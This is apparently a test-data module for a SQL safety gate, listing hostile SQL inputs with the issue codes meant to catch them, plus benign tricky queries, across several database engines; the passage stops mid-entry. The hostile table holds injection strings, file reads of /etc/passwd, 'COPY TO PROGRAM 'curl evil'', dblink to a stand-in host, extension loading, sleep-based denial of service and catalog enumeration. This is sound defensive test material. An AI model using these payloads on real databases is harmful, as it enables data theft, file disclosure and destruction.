"""The hostile-input table and the benign-but-tricky table, shared by the engine tests.

Each hostile case names the issue codes any of which proves the gate caught it, or
``LIMIT`` when the query is valid SQL that the *engine* must stop (runaway joins).
``engines`` lists where the case applies (dialect-specific payloads run where they mean
something).
"""

from __future__ import annotations

from dataclasses import dataclass, replace

ALL = ("duckdb", "sqlite", "postgres")
"""Where a case applies by default; the cases for ALL also run on MySQL unless
:data:`NOT_ON_MYSQL` names them."""
LIMIT = "LIMIT"
MULTI = frozenset({"multiple_statements", "parse_error"})
WRITE = frozenset({"statement_not_allowed", "not_read_only", "parse_error", "multiple_statements"})
FUNC = frozenset({"function_not_allowed", "table_function_not_allowed"})
TABLE = frozenset({"unknown_table", "table_function_not_allowed", "function_not_allowed"})
HIDDEN = frozenset({"sensitive_column", "star_over_sensitive"})
BAD = frozenset({"bad_character"})
CATALOG = frozenset({"catalog_cast"})
CATALOG_FN = frozenset({"function_not_allowed"})
PG_DUCK = ("postgres", "duckdb")


@dataclass(frozen=True)
class Case:
    """One SQL input, what must happen to it, and where it applies."""

    group: str
    sql: str
    expect: frozenset[str] | str
    engines: tuple[str, ...] = ALL

    def ids(self, i: int) -> str:
        """A readable, unique test id."""
        return f"{self.group}-{i:03d}"


def _c(group: str, sql: str, expect: frozenset[str] | str, *engines: str) -> Case:
    return Case(group, sql, expect, engines or ALL)


HOSTILE: list[Case] = [
    # -- multiple statements ---------------------------------------------------------------
    _c("multi", "SELECT 1; DROP TABLE orders", MULTI),
    _c("multi", "SELECT id FROM orders; DELETE FROM orders", MULTI),
    _c("multi", "SELECT id FROM orders;\nINSERT INTO orders (id) VALUES (1)", MULTI),
    _c("multi", "SELECT 1; SELECT 2", MULTI),
    _c("multi", "SELECT id FROM orders; -- harmless?\nUPDATE orders SET amount = 0", MULTI),
    _c("multi", "/* x */ SELECT 1; ATTACH 'x.db' AS y", MULTI),
    _c("multi", "SELECT 'a;b' AS s; DROP TABLE customers", MULTI),
    _c("multi", "BEGIN; DELETE FROM orders; COMMIT", MULTI),
    _c("multi", "SeLeCt id FrOm orders; dRoP tAbLe orders", MULTI),
    _c("multi", "SELECT id FROM orders WHERE region = $$x$$; DROP TABLE orders", MULTI, "postgres"),
    # -- DML / DDL, also hidden in CTEs, subqueries and behind comments ---------------------
    _c("write", "DELETE FROM orders", WRITE),
    _c("write", "UPDATE orders SET amount = 0", WRITE),
    _c("write", "INSERT INTO orders (id) VALUES (1)", WRITE),
    _c("write", "DROP TABLE orders", WRITE),
    _c("write", "CREATE TABLE x AS SELECT id FROM orders", WRITE),
    _c("write", "ALTER TABLE orders ADD COLUMN x INTEGER", WRITE),
    _c("write", "TRUNCATE orders", WRITE, "duckdb", "postgres"),
    _c("write", "CREATE TEMP TABLE t AS SELECT 1 AS a", WRITE),
    _c("write", "CREATE VIEW v AS SELECT id FROM orders", WRITE),
    _c("write", "CREATE INDEX i ON orders (id)", WRITE),
    _c("write", "GRANT SELECT ON orders TO PUBLIC", WRITE, "postgres", "duckdb"),
    _c("write", "REPLACE INTO orders (id) VALUES (1)", WRITE, "sqlite"),
    _c("write", "VACUUM", WRITE),
    _c("write", "EXPLAIN ANALYZE SELECT id FROM orders", WRITE, "duckdb", "postgres"),
    _c("write", "/* SELECT */ DELETE FROM orders", WRITE),
    _c("write", "-- just a comment\nDROP TABLE orders", WRITE),
    _c(
        "write",
        "MERGE INTO orders USING customers ON orders.id = customers.id WHEN MATCHED THEN DELETE",
        WRITE,
        "postgres",
        "duckdb",
    ),
    _c("write", "WITH d AS (DELETE FROM orders RETURNING id) SELECT id FROM d", WRITE),
    _c("write", "WITH u AS (UPDATE orders SET amount = 0 RETURNING id) SELECT id FROM u", WRITE),
    _c(
        "write",
        "WITH i AS (INSERT INTO orders (id) VALUES (1) RETURNING id) SELECT id FROM i",
        WRITE,
    ),
    _c("write", "SELECT id FROM (DELETE FROM orders RETURNING id) AS d", WRITE),
    _c("write", "SELECT id INTO backup FROM orders", frozenset({"select_into", "parse_error"})),
    _c(
        "write",
        "SELECT id FROM orders FOR UPDATE",
        frozenset({"locking_clause", "parse_error"}),
        "postgres",
        "duckdb",
    ),
    _c("write", "DO $$ BEGIN DELETE FROM orders; END $$", WRITE, "postgres"),
    _c("write", "CALL evil()", WRITE, "postgres", "duckdb"),
    # -- file and network functions, per engine ------------------------------------------
    _c("file", "SELECT * FROM read_csv('/etc/passwd')", TABLE, "duckdb"),
    _c("file", "SELECT * FROM read_csv_auto('/etc/passwd')", TABLE, "duckdb"),
    _c("file", "SELECT * FROM read_parquet('s3://bucket/x.parquet')", TABLE, "duckdb"),
    _c("file", "SELECT * FROM read_json('http://example.com/a.json')", TABLE, "duckdb"),
    _c("file", "SELECT * FROM read_text('/etc/hostname')", TABLE, "duckdb"),
    _c("file", "SELECT * FROM read_blob('/etc/hostname')", TABLE, "duckdb"),
    _c("file", "SELECT * FROM glob('/etc/*')", TABLE, "duckdb"),
    _c("file", "SELECT * FROM 'https://example.com/x.csv'", TABLE, "duckdb"),
    _c("file", "SELECT * FROM '/etc/passwd'", TABLE, "duckdb"),
    _c("file", "SELECT * FROM sqlite_scan('/tmp/x.db', 't')", TABLE, "duckdb"),
    _c("file", "SELECT * FROM postgres_scan('host=evil', 'public', 't')", TABLE, "duckdb"),
    _c("file", "SELECT * FROM query('SELECT * FROM tablerag.chunks')", TABLE, "duckdb"),
    _c("file", "SELECT getenv('HOME') AS h", FUNC, "duckdb"),
    _c("file", "COPY orders TO '/tmp/out.csv'", WRITE, "duckdb", "postgres"),
    _c("file", "COPY (SELECT name FROM customers) TO 'https://x/y'", WRITE, "duckdb"),
    _c("file", "COPY orders FROM '/etc/passwd'", WRITE, "duckdb", "postgres"),
    _c("file", "COPY orders TO PROGRAM 'curl evil'", WRITE, "postgres"),
    _c("file", "EXPORT DATABASE '/tmp/x'", WRITE, "duckdb"),
    _c("file", "INSTALL httpfs", WRITE, "duckdb"),
    _c("file", "LOAD httpfs", WRITE, "duckdb"),
    _c("file", "ATTACH '/tmp/x.db' AS x", WRITE, "duckdb", "sqlite"),
    _c("file", "ATTACH DATABASE '/tmp/evil.db' AS evil", WRITE, "sqlite"),
    _c("file", "SELECT pg_read_file('/etc/passwd') AS f", FUNC, "postgres"),
    _c("file", "SELECT pg_read_binary_file('/etc/passwd') AS f", FUNC, "postgres"),
    _c("file", "SELECT * FROM pg_ls_dir('.')", TABLE, "postgres"),
    _c("file", "SELECT lo_import('/etc/passwd') AS o", FUNC, "postgres"),
    _c("file", "SELECT lo_export(1, '/tmp/x') AS o", FUNC, "postgres"),
    _c("file", "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)", TABLE, "postgres"),
    _c(
        "file",
        "SELECT query_to_xml('SELECT * FROM secrets', true, true, '') AS x",
        FUNC,
        "postgres",
    ),
    _c("file", "SELECT load_extension('/tmp/evil.so') AS x", FUNC, "sqlite"),
    _c("file", "SELECT readfile('/etc/passwd') AS x", FUNC, "sqlite"),
    _c("file", "SELECT writefile('/tmp/x', 'y') AS x", FUNC, "sqlite"),
    _c("file", "SELECT * FROM fsdir('/etc')", TABLE, "sqlite"),
    # -- sleep and resource exhaustion ----------------------------------------------------
    _c("dos", "SELECT pg_sleep(100) AS s", FUNC, "postgres"),
    _c("dos", "SELECT pg_sleep_for('1 hour') AS s", FUNC, "postgres"),
    _c("dos", "SELECT sleep(10) AS s", FUNC),
    _c(
        "dos",
        "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r",
        frozenset({"recursive_cte"}),
    ),
    _c(
        "dos",
        "WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n FROM r) SELECT n FROM r",
        frozenset({"recursive_cte"}),
    ),
    _c(
        "dos",
        "SELECT count(*) FROM orders a, orders b, orders c "
        "WHERE a.amount + b.amount + c.amount > 0.5",
        LIMIT,
    ),
    _c(
        "dos",
        "SELECT max(a.amount * b.amount - c.amount) FROM orders a CROSS JOIN orders b "
        "CROSS JOIN orders c",
        LIMIT,
    ),
    _c(
        "dos",
        "SELECT a.id FROM orders a JOIN orders b ON a.amount <> b.amount "
        "JOIN orders c ON b.id <> c.id ORDER BY a.id DESC",
        LIMIT,
    ),
    # -- catalog and settings access -------------------------------------------------------
    _c("catalog", "SELECT * FROM tablerag.chunks", TABLE, "duckdb"),
    _c("catalog", "SELECT o.id FROM data.orders AS o, tablerag.sources AS s", TABLE, "duckdb"),
    _c("catalog", "SELECT * FROM main.secrets", TABLE, "duckdb"),
    _c("catalog", "SELECT * FROM secrets", TABLE),
    _c("catalog", "SELECT id FROM orders WHERE id IN (SELECT id FROM secrets)", TABLE),
    _c("catalog", "SELECT * FROM information_schema.tables", TABLE),
    _c("catalog", "SELECT * FROM pg_catalog.pg_tables", TABLE, "postgres", "duckdb"),
    _c("catalog", "SELECT * FROM pg_shadow", TABLE, "postgres"),
    _c("catalog", "SELECT * FROM pg_stat_activity", TABLE, "postgres"),
    _c("catalog", "SELECT * FROM sqlite_master", TABLE, "sqlite"),
    _c("catalog", "SELECT * FROM duckdb_settings()", TABLE, "duckdb"),
    _c("catalog", "SELECT * FROM duckdb_tables()", TABLE, "duckdb"),
    _c("catalog", "SELECT current_setting('data_directory') AS d", FUNC, "postgres", "duckdb"),
    _c("catalog", "SELECT set_config('statement_timeout', '0', false) AS s", FUNC, "postgres"),
    _c("catalog", "SELECT nextval('orders_id_seq') AS n", FUNC, "postgres", "duckdb"),
    _c("catalog", "SELECT version() AS v", FUNC, "postgres", "duckdb"),
    _c("catalog", "SELECT current_user AS u", FUNC | frozenset({"unknown_column"}), "postgres"),
    _c("catalog", "SET enable_external_access = true", WRITE, "duckdb"),
    _c("catalog", "SET statement_timeout = 0", WRITE, "postgres"),
    _c("catalog", "RESET ALL", WRITE, "postgres", "duckdb"),
    _c("catalog", "PRAGMA database_list", WRITE, "sqlite", "duckdb"),
    _c("catalog", "PRAGMA writable_schema = ON", WRITE, "sqlite"),
    _c("catalog", "SHOW TABLES", WRITE, "duckdb"),
    _c("catalog", "DESCRIBE customers", WRITE, "duckdb"),
    _c("catalog", "SELECT password FROM customers", HIDDEN),
    _c("catalog", "SELECT * FROM customers", HIDDEN),
    _c("catalog", "SELECT c.* FROM customers AS c", HIDDEN),
    _c("catalog", "SELECT phone AS p FROM customers", HIDDEN),
    _c("catalog", "SELECT x FROM (SELECT email AS x FROM customers) AS s", HIDDEN),
    _c("catalog", "SELECT customers FROM customers", frozenset({"unknown_column"})),
    _c("catalog", "SELECT password FROM customers, (SELECT 1 AS one) AS d", HIDDEN),
    _c(
        "catalog",
        "SELECT password FROM customers CROSS JOIN generate_series(1, 2) AS g(n)",
        HIDDEN,
        "duckdb",
        "postgres",
    ),
    _c("catalog", "SELECT c.name FROM customers c JOIN customers d USING (phone)", HIDDEN),
    _c("catalog", "SELECT name FROM customers NATURAL JOIN orders", HIDDEN),
    _c("catalog", "SELECT COLUMNS('pass.*') FROM customers", FUNC, "duckdb"),
    _c(
        "catalog",
        "SELECT id FROM orders WHERE amount > $1",
        frozenset({"parameter", "parse_error"}),
        "postgres",
    ),
    # -- injection through the question or through sample values copied into SQL --------
    _c("inject", "SELECT id FROM orders WHERE region = ''; DROP TABLE orders; --'", MULTI),
    _c("inject", "SELECT id FROM orders WHERE region = 'Robert'); DROP TABLE orders;--'", MULTI),
    _c("inject", "SELECT id FROM orders WHERE region = 'a' OR 1=1; SELECT * FROM secrets", MULTI),
    _c(
        "inject",
        "SELECT region FROM orders WHERE region = 'x' UNION SELECT password FROM customers",
        HIDDEN,
    ),
    _c(
        "inject",
        "SELECT name FROM customers WHERE name = 'x' UNION ALL SELECT email FROM customers",
        HIDDEN,
    ),
    _c("inject", "SELECT (SELECT password FROM customers LIMIT 1) AS leak", HIDDEN),
    _c("inject", "SELECT name FROM customers WHERE phone LIKE '138%'", HIDDEN),
    _c("inject", "SELECT name FROM customers ORDER BY password", HIDDEN),
    # -- encoding tricks ---------------------------------------------------------------------
    _c("encoding", "SELECT id FROM orders\x00; DROP TABLE orders", BAD),
    _c("encoding", "SELECT id FROM orders\u202e; DROP TABLE orders", BAD),
    _c("encoding", "SELECT id FROM orders;\u200bDROP TABLE orders", BAD),
    _c("encoding", "DEL\u200bETE FROM orders", BAD),
    _c("encoding", "\ufeffDELETE FROM orders", BAD),
    _c("encoding", "SELECT id FROM orders\x1b[2K", BAD),
    _c(
        "encoding",
        "SELECT id FROM orders；DROP TABLE orders",
        frozenset({"parse_error", "unknown_table", "multiple_statements"}),
    ),
    _c(
        "encoding",
        "ＳＥＬＥＣＴ id FROM orders",
        frozenset({"parse_error", "statement_not_allowed"}),
    ),
    _c(
        "encoding",
        'SELECT "pass""word" FROM customers',
        frozenset({"unknown_column"}),
        "duckdb",
        "postgres",
    ),
    _c("encoding", 'SELECT "password" FROM customers', HIDDEN),
    _c(
        "encoding",
        'SELECT U&"\\0070\\0061ssword" FROM customers',
        frozenset({"parse_error", "unknown_column", "sensitive_column"}),
        "postgres",
    ),
    _c("encoding", "SELECT id FROM orders WHERE region = 'x' -- \n; DROP TABLE orders", MULTI),
    # -- the forms allowed for benign queries still cannot reach hidden columns ------------
    _c("hidden", "SELECT to_json(c.*) AS j FROM customers c", HIDDEN, "duckdb"),
    _c("hidden", "SELECT to_json({'p': phone}) AS j FROM customers", HIDDEN, "duckdb"),
    _c(
        "hidden", "SELECT to_json(c) AS j FROM customers c", frozenset({"unknown_column"}), "duckdb"
    ),
    _c(
        "hidden",
        "SELECT * FROM customers PIVOT (count(*) FOR city IN ('Beijing'))",
        HIDDEN,
        "duckdb",
    ),
    _c(
        "hidden",
        "SELECT city FROM customers PIVOT (max(phone) FOR city IN ('x'))",
        HIDDEN,
        "duckdb",
    ),
    _c("hidden", "SELECT * FROM customers UNPIVOT (v FOR k IN (name, email))", HIDDEN, "duckdb"),
    _c("write", "PIVOT customers ON city USING count(*)", WRITE, "duckdb"),
    _c("write", "PIVOT orders ON region USING sum(amount) GROUP BY customer_id", WRITE, "duckdb"),
    _c("table", "SELECT id FROM (SELECT id FROM secrets LIMIT ALL) AS t", TABLE),
    _c("table", "(SELECT * FROM secrets LIMIT 5)", TABLE, "duckdb", "postgres"),
    # -- catalog enumeration through object-identifier casts and lookups --------------------
    _c(
        "catalog",
        "SELECT CAST(CAST(x AS oid) AS regclass) FROM generate_series(1, 20000) AS g(x)",
        CATALOG,
        *PG_DUCK,
    ),
    _c("catalog", "SELECT x::regclass FROM generate_series(1, 20000) AS g(x)", CATALOG, *PG_DUCK),
    _c(
        "catalog",
        "SELECT x::oid::regrole FROM generate_series(1, 20000) AS g(x)",
        CATALOG,
        *PG_DUCK,
    ),
    _c(
        "catalog",
        "SELECT CAST(x AS regnamespace) FROM generate_series(1, 99) AS g(x)",
        CATALOG,
        *PG_DUCK,
    ),
    _c(
        "catalog",
        "SELECT x::regproc::text FROM generate_series(1, 9999) AS g(x)",
        CATALOG,
        *PG_DUCK,
    ),
    _c(
        "catalog", "SELECT x::regprocedure FROM generate_series(1, 9999) AS g(x)", CATALOG, *PG_DUCK
    ),
    _c("catalog", "SELECT x::regoper FROM generate_series(1, 9999) AS g(x)", CATALOG, *PG_DUCK),
    _c("catalog", "SELECT x::regoperator FROM generate_series(1, 9999) AS g(x)", CATALOG, *PG_DUCK),
    _c("catalog", "SELECT x::regtype FROM generate_series(1, 9999) AS g(x)", CATALOG, *PG_DUCK),
    _c("catalog", "SELECT x::regconfig FROM generate_series(1, 9999) AS g(x)", CATALOG, *PG_DUCK),
    _c(
        "catalog",
        "SELECT x::regdictionary FROM generate_series(1, 9999) AS g(x)",
        CATALOG,
        *PG_DUCK,
    ),
    _c(
        "catalog", "SELECT x::regcollation FROM generate_series(1, 9999) AS g(x)", CATALOG, *PG_DUCK
    ),
    _c("catalog", "SELECT 'secrets'::regclass AS r", CATALOG, *PG_DUCK),
    _c("catalog", "SELECT 'secrets'::regclass::oid AS r", CATALOG, *PG_DUCK),
    _c("catalog", "SELECT 'postgres'::regrole::oid::text AS r", CATALOG, *PG_DUCK),
    _c("catalog", "SELECT regclass 'secrets' AS r", CATALOG, "postgres"),
    _c("catalog", "SELECT oid '1259' AS r", CATALOG, "postgres"),
    _c("catalog", "SELECT x::oid::text FROM generate_series(1, 20000) AS g(x)", CATALOG, *PG_DUCK),
    _c(
        "catalog",
        "SELECT CAST(x AS oid) + 1 AS n FROM generate_series(1, 9) AS g(x)",
        CATALOG,
        *PG_DUCK,
    ),
    _c("catalog", "SELECT id::int8::regclass AS r FROM orders", CATALOG, *PG_DUCK),
    _c("catalog", "SELECT TRY_CAST(id AS regclass) AS r FROM orders", CATALOG, *PG_DUCK),
    _c("catalog", "SELECT id::pg_catalog.regclass AS r FROM orders", CATALOG, *PG_DUCK),
    _c("catalog", 'SELECT id::"pg_catalog"."regclass" AS r FROM orders', CATALOG, *PG_DUCK),
    _c("catalog", 'SELECT CAST(id AS "regclass") AS r FROM orders', CATALOG, *PG_DUCK),
    _c("catalog", "SELECT id /* c */ :: /* d */ RegClass AS r FROM orders", CATALOG, *PG_DUCK),
    _c(
        "catalog",
        "SELECT x FROM generate_series(1, 20000) AS g(x) WHERE x::regclass::text LIKE '%secret%'",
        CATALOG,
        *PG_DUCK,
    ),
    _c(
        "catalog",
        "WITH r AS (SELECT x::regclass AS rel FROM generate_series(1, 20000) AS g(x)) "
        "SELECT CAST(rel AS text) AS t FROM r",
        CATALOG,
        *PG_DUCK,
    ),
    _c(
        "catalog",
        "SELECT t.rel FROM (SELECT CAST(x AS regclass) AS rel "
        "FROM generate_series(1, 20000) AS g(x)) AS t",
        CATALOG,
        *PG_DUCK,
    ),
    _c(
        "catalog",
        "SELECT id FROM orders WHERE id IN (SELECT x FROM generate_series(1, 9) AS g(x) "
        "WHERE x::regtype::text = 'integer')",
        CATALOG,
        *PG_DUCK,
    ),
    _c(
        "catalog",
        "SELECT upper(x::regclass::text) AS t FROM generate_series(1, 99) AS g(x)",
        CATALOG,
        *PG_DUCK,
    ),
    _c(
        "catalog",
        "SELECT length(CAST(CAST(x AS regclass) AS text)) AS n FROM generate_series(1, 9) AS g(x)",
        CATALOG,
        *PG_DUCK,
    ),
    _c(
        "catalog",
        "SELECT coalesce(x::regrole::text, 'none') AS r FROM generate_series(1, 9) AS g(x)",
        CATALOG,
        *PG_DUCK,
    ),
    _c(
        "catalog",
        "SELECT x::regclass[] AS r FROM generate_series(1, 9) AS g(x)",
        CATALOG | {"parse_error"},  # PostgreSQL: sqlglot cannot parse it, refused all the same
        *PG_DUCK,
    ),
    _c(
        "catalog",
        "SELECT CAST(x AS regclass ARRAY) AS r FROM generate_series(1, 9) AS g(x)",
        CATALOG,
        "duckdb",
    ),
    _c("catalog", "SELECT * FROM generate_series(1, 3) AS g(x regclass)", CATALOG, *PG_DUCK),
    _c("catalog", "SELECT to_regclass('secrets') AS r", CATALOG_FN),
    _c("catalog", "SELECT to_regrole('postgres') AS r", CATALOG_FN),
    _c("catalog", "SELECT to_regnamespace('tablerag') AS r", CATALOG_FN),
    _c("catalog", "SELECT to_regtype('integer') AS r", CATALOG_FN),
    _c("catalog", "SELECT to_regproc('now') AS r", CATALOG_FN),
    _c("catalog", "SELECT to_regprocedure('now()') AS r", CATALOG_FN),
    _c("catalog", "SELECT to_regoper('+') AS r", CATALOG_FN),
    _c("catalog", "SELECT to_regoperator('+(int,int)') AS r", CATALOG_FN),
    _c("catalog", "SELECT to_regcollation('C') AS r", CATALOG_FN),
    _c("catalog", "SELECT pg_catalog.to_regclass('secrets') AS r", CATALOG_FN, *PG_DUCK),
    _c("catalog", "SELECT id FROM orders WHERE to_regclass('secrets') IS NOT NULL", CATALOG_FN),
    _c("catalog", "SELECT regclass('secrets') AS r", CATALOG_FN),
    _c("catalog", "SELECT oid(1259) AS r", CATALOG_FN),
    _c("catalog", "SELECT obj_description(1259) AS r", CATALOG_FN),
    _c(
        "catalog",
        "SELECT format_type(x, NULL) AS t FROM generate_series(1, 99) AS g(x)",
        CATALOG_FN,
    ),
]

BENIGN: list[Case] = [
    _c(
        "agg",
        "SELECT region, sum(amount) AS total FROM orders GROUP BY region ORDER BY total DESC",
        "ok",
    ),
    _c(
        "cte",
        "WITH t AS (SELECT customer_id, sum(amount) AS s FROM orders GROUP BY customer_id) "
        "SELECT customer_id, s FROM t WHERE s > 10 ORDER BY customer_id",
        "ok",
    ),
    _c("cte", "WITH secrets AS (SELECT id FROM orders WHERE id < 5) SELECT id FROM secrets", "ok"),
    _c(
        "cte",
        "WITH a AS (SELECT id FROM orders), b AS (SELECT id FROM a WHERE id < 3) "
        "SELECT count(*) AS n FROM b",
        "ok",
    ),
    _c(
        "window",
        "SELECT id, amount, rank() OVER (PARTITION BY region ORDER BY amount DESC) AS r "
        "FROM orders",
        "ok",
    ),
    _c(
        "window",
        "SELECT id, sum(amount) OVER (ORDER BY id ROWS BETWEEN 2 PRECEDING AND "
        "CURRENT ROW) AS rolling FROM orders",
        "ok",
    ),
    _c("window", "SELECT region, row_number() OVER (ORDER BY region) AS rn FROM orders", "ok"),
    _c(
        "strings",
        "SELECT upper(region) AS u, lower(region) AS l, trim(region) AS t, "
        "length(region) AS n FROM orders",
        "ok",
    ),
    _c(
        "strings",
        "SELECT left(region, 2) AS l, right(region, 1) AS r FROM orders",
        "ok",
        "duckdb",
        "postgres",
    ),
    _c(
        "strings",
        "SELECT replace(region, 'delete', 'drop') AS s FROM orders "
        "WHERE region LIKE '%select%' OR region = 'DROP TABLE orders'",
        "ok",
    ),
    _c("strings", "SELECT substr(region, 1, 2) AS s FROM orders", "ok", "duckdb", "sqlite"),
    _c("strings", "SELECT 'a;b' AS s, id FROM orders LIMIT 1", "ok"),
    _c("strings", "SELECT '--not a comment' AS s, '/* nor this */' AS t FROM orders LIMIT 1", "ok"),
    _c("strings", "SELECT 'a' || chr(59) || 'DROP TABLE orders' AS s", "ok", "duckdb", "postgres"),
    _c(
        "comments",
        "-- top regions\nSELECT region /* the region */, count(*) AS n FROM orders GROUP BY region",
        "ok",
    ),
    _c("comments", "SELECT id FROM orders /*! ; DROP TABLE orders */ LIMIT 2", "ok"),
    _c("quoted", 'SELECT "id", "amount" FROM "orders" WHERE "id" < 3', "ok"),
    _c("quoted", 'SELECT count(id) AS "select", max(amount) AS "from" FROM orders', "ok"),
    _c("chinese", "SELECT 地区, sum(金额) AS 合计 FROM 销售 GROUP BY 地区", "ok"),
    _c("chinese", 'SELECT "地区" FROM "销售" WHERE "金额" > 60 ORDER BY "金额"', "ok"),
    _c("chinese", "SELECT s.地区 AS 区域 FROM 销售 AS s WHERE s.金额 >= 100", "ok"),
    _c(
        "case",
        "SELECT id, CASE WHEN amount > 50 THEN 'big' ELSE 'small' END AS size FROM orders",
        "ok",
    ),
    _c(
        "subquery",
        "SELECT id FROM orders o WHERE amount > (SELECT avg(amount) FROM orders i "
        "WHERE i.region = o.region)",
        "ok",
    ),
    _c(
        "subquery",
        "SELECT name FROM customers c WHERE EXISTS (SELECT 1 FROM orders o "
        "WHERE o.customer_id = c.id)",
        "ok",
    ),
    _c(
        "subquery",
        "SELECT name FROM customers WHERE id IN (SELECT customer_id FROM orders "
        "WHERE amount > 100)",
        "ok",
    ),
    _c(
        "subquery",
        "SELECT r, n FROM (SELECT region AS r, count(*) AS n FROM orders "
        "GROUP BY region) AS t WHERE n > 0",
        "ok",
    ),
    _c("setop", "SELECT region FROM orders UNION SELECT city FROM customers", "ok"),
    _c("setop", "SELECT customer_id FROM orders INTERSECT SELECT id FROM customers", "ok"),
    _c("setop", "SELECT id FROM customers EXCEPT SELECT customer_id FROM orders", "ok"),
    _c(
        "join",
        "SELECT o.id, c.name FROM orders o JOIN customers c ON c.id = o.customer_id "
        "WHERE c.city = 'Beijing'",
        "ok",
    ),
    _c(
        "join",
        "SELECT c.name, coalesce(sum(o.amount), 0) AS total FROM customers c "
        "LEFT JOIN orders o ON o.customer_id = c.id GROUP BY c.name",
        "ok",
    ),
    _c(
        "join",
        "SELECT orders.id, customers.city FROM orders, customers "
        "WHERE orders.customer_id = customers.id AND orders.id < 10",
        "ok",
    ),
    _c("hidden-ok", "SELECT count(*) AS n FROM customers", "ok"),
    _c("hidden-ok", "SELECT count(DISTINCT city) AS n, min(name) AS first FROM customers", "ok"),
    _c("hidden-ok", "SELECT name, city FROM customers ORDER BY name LIMIT 5", "ok"),
    _c(
        "group",
        "SELECT region, count(*) AS n FROM orders GROUP BY region HAVING count(*) > 1",
        "ok",
    ),
    _c("group", "SELECT upper(region) AS r, count(*) AS n FROM orders GROUP BY r", "ok"),
    _c("misc", "SELECT CAST(amount AS INTEGER) AS a FROM orders", "ok"),
    _c(
        "misc",
        "SELECT id FROM orders WHERE region IN ('north', 'south') AND amount BETWEEN 1 AND 100",
        "ok",
    ),
    _c(
        "misc",
        "SELECT round(avg(amount), 2) AS a, coalesce(max(region), 'none') AS m FROM orders",
        "ok",
    ),
    _c("misc", "SELECT DISTINCT region FROM orders ORDER BY region", "ok"),
    _c("misc", "SELECT * FROM orders LIMIT 3", "ok"),
    _c("misc", "SELECT o.* FROM orders o WHERE o.id < 3", "ok"),
    _c("misc", "SELECT id FROM orders;", "ok"),
    _c("misc", "select ID from ORDERS where Region = 'north'", "ok"),
    _c(
        "misc",
        "SELECT order_date, count(*) AS n FROM orders WHERE order_date >= '2024-06-01' "
        "GROUP BY order_date",
        "ok",
    ),
    # -- false positives once: JSON text, inner LIMITs, LIMIT ALL, the clock, PIVOT ---------
    _c("json", "SELECT id, to_json(amount) AS j FROM orders ORDER BY id LIMIT 3", "ok", "duckdb"),
    _c("json", "SELECT to_json({'id': id, 'region': region}) AS j FROM orders", "ok", "duckdb"),
    _c("json", "SELECT to_json(list_value(id, customer_id)) AS j FROM orders", "ok", "duckdb"),
    _c(
        "inner-limit",
        "SELECT id FROM (SELECT id FROM orders ORDER BY amount DESC LIMIT 5) AS t",
        "ok",
    ),
    _c(
        "inner-limit",
        "SELECT id FROM orders WHERE id IN (SELECT id FROM orders ORDER BY amount LIMIT 3)",
        "ok",
    ),
    _c("inner-limit", "WITH t AS (SELECT id FROM orders LIMIT 5) SELECT id FROM t", "ok"),
    _c("inner-limit", "SELECT (SELECT id FROM orders ORDER BY id LIMIT 1) AS first_id", "ok"),
    _c(
        "inner-limit",
        "SELECT x.id FROM (SELECT id FROM orders ORDER BY id LIMIT 5 OFFSET 5) AS x "
        "ORDER BY x.id LIMIT 3",
        "ok",
    ),
    _c("inner-limit", "(SELECT id FROM orders ORDER BY id LIMIT 5)", "ok", "duckdb", "postgres"),
    _c("inner-limit", "(SELECT id FROM orders ORDER BY id LIMIT 5000)", "ok", "duckdb", "postgres"),
    _c(
        "inner-limit",
        "(SELECT id FROM orders ORDER BY id LIMIT 5) UNION ALL "
        "(SELECT id FROM orders ORDER BY id DESC LIMIT 5)",
        "ok",
        "duckdb",
        "postgres",
    ),
    _c(
        "inner-limit",
        "SELECT id FROM (SELECT id FROM orders ORDER BY id OFFSET 1 ROWS "
        "FETCH NEXT 5 ROWS ONLY) AS t",
        "ok",
        "postgres",
    ),
    _c("inner-limit", "SELECT id FROM (SELECT id FROM orders LIMIT ALL) AS t", "ok", "postgres"),
    _c(
        "inner-limit",
        "SELECT c.name FROM customers c JOIN LATERAL (SELECT o.amount FROM orders o "
        "WHERE o.customer_id = c.id ORDER BY o.amount DESC LIMIT 1) AS top ON true",
        "ok",
        "postgres",
    ),
    _c("limit-all", "SELECT id FROM orders LIMIT ALL", "ok"),
    _c("limit-all", "SELECT id FROM orders ORDER BY id LIMIT ALL OFFSET 5", "ok"),
    _c("limit-all", "SELECT id FROM orders LIMIT -1", "ok", "sqlite"),
    _c("limit-all", "SELECT id FROM orders ORDER BY id LIMIT -1 OFFSET 5", "ok", "sqlite"),
    _c("limit-all", "SELECT id FROM (SELECT id FROM orders LIMIT ALL) AS t", "ok", "sqlite"),
    _c("limit-all", "SELECT id FROM (SELECT id FROM orders LIMIT -1) AS t", "ok", "sqlite"),
    _c("clock", "SELECT now() AS t", "ok", "duckdb", "postgres"),
    _c("clock", "SELECT id FROM orders WHERE order_date < now()", "ok", "duckdb", "postgres"),
    _c("clock", "SELECT id FROM orders WHERE order_date <= CURRENT_DATE", "ok"),
    _c(
        "pivot",
        "SELECT * FROM orders PIVOT (sum(amount) FOR region IN ('north', 'south'))",
        "ok",
        "duckdb",
    ),
    _c(
        "pivot",
        "FROM orders PIVOT (sum(amount) FOR region IN ('north', 'south') GROUP BY customer_id)",
        "ok",
        "duckdb",
    ),
    _c(
        "pivot",
        "SELECT * FROM (SELECT customer_id, region, amount FROM orders) AS o "
        "PIVOT (count(*) FOR region IN ('east', 'west'))",
        "ok",
        "duckdb",
    ),
    _c("cast", "SELECT CAST(amount AS INTEGER) AS a FROM orders", "ok"),
    _c("cast", "SELECT CAST(id AS TEXT) AS t FROM orders", "ok"),
    _c("cast", "SELECT CAST(id AS VARCHAR) AS t FROM orders", "ok"),
    _c("cast", "SELECT CAST(amount AS NUMERIC(10, 2)) AS a FROM orders", "ok"),
    _c("cast", "SELECT CAST('2024-01-01' AS DATE) AS d", "ok"),
    _c("cast", "SELECT id FROM orders WHERE order_date >= CAST('2024-01-01' AS DATE)", "ok"),
    _c("cast", "SELECT order_date::date AS d, amount::numeric AS a FROM orders", "ok", *PG_DUCK),
    _c("cast", "SELECT id::text AS t, amount::int AS a FROM orders", "ok", *PG_DUCK),
    _c(
        "cast",
        "SELECT id::bigint AS n, CAST(id AS DOUBLE PRECISION) AS d FROM orders",
        "ok",
        *PG_DUCK,
    ),
    _c(
        "cast",
